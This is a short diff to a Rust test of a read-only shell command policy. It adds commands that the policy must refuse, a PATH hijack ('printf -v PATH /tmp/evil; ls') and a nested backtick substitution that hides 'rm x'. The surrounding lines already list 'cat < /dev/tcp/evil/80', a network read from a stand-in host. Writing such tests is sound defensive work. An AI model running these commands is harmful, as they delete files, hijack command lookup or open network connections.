@@ -109,6 +109,8 @@ fn read_only_allows_inspection_and_nothing_that_writes_or_runs() {
         "xargs sort",
         "./cat a",
         "cat < /dev/tcp/evil/80",
+        "printf -v PATH /tmp/evil; ls",
+        "echo `echo \\`rm x\\``",
     ] {
         assert_ne!(verdict(&p, c), Verdict::Allow, "{c}");
     }
